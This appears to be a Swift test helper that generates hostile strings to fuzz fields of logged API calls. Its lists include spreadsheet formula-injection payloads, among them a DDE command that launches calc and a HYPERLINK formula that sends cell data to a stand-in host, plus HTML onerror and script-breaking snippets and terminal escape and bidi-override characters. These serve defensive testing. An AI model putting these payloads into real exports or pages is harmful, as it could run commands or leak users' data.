import ReplayTestSupport

/// Calls whose every text is one that a spreadsheet, a page or a terminal might act on.
struct HostileCall {
  private static let starts = [
    "=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'", "''", "\"", " =", "\"=",
    "\u{A0}+",
    "\u{FEFF}=", "\u{0}@", "", "",
  ]
  private static let bodies = [
    "cmd|' /C calc'!A0", "HYPERLINK(\"http://a.example/?\"&A1)", "1+1", "", "x,y", "say \"hi\"",
    "two\nlines", "two\r\nlines", "lone\rreturn", " blank ", "1e5", "007", "Zoë", "日本", "a;b",
    "[a](http://a.example)", "![i](http://a.example/i.png)", "<img src=x onerror=y>", "a|b",
    "a\\|b",
    "``` x", "`", "**bold**", "@mallory #123", "www.example.com", "\\", "\u{1B}[31m", "\u{202E}",
    "a@example.com", "|", "\\\\|", "\u{D4E}</script><!--", "\u{600}'", "\u{110BD}\"",
    "<\u{301}/script>", "\u{6DD}`",
  ]

  private var random: SeededGenerator

  init(seed: Int) { random = SeededGenerator(seed: seed) }

  /// The next text.
  mutating func text() -> String {
    pick(Self.starts) + pick(Self.bodies) + (Bool.random(using: &random) ? pick(Self.bodies) : "")
  }

  private mutating func pick(_ texts: [String]) -> String {
    texts[Int.random(in: texts.indices, using: &random)]
  }

  /// A call with such texts, as JSON spells them.
  mutating func call(at clock: String) -> MadeCall {
    var call = MadeCall(Self.spelled(text()), at: clock)
    (call.actor, call.bucket) = (Self.spelled(text()), Self.spelled(text()))
    (call.region, call.account) = (Self.spelled(text()), Self.spelled(text()))
    return call.with("\"errorCode\":\"\(Self.spelled(text()))\"")
      .with("\"userAgent\":\"\(Self.spelled(text()))\"")
  }

  /// An archive of `count` of them.
  mutating func archive(_ count: Int) throws -> MadeArchive {
    try MadeArchive((0..<count).map { call(at: "14:\(10 + $0 % 50):00") })
  }

  private static func spelled(_ text: String) -> String {
    text.unicodeScalars.map { scalar in
      let isPlain = scalar.value >= 0x20 && scalar != "\"" && scalar != "\\"
      let digits = String(scalar.value, radix: 16)
      return isPlain
        ? String(scalar) : "\\u" + String(repeating: "0", count: 4 - digits.count) + digits
    }.joined()
  }
}
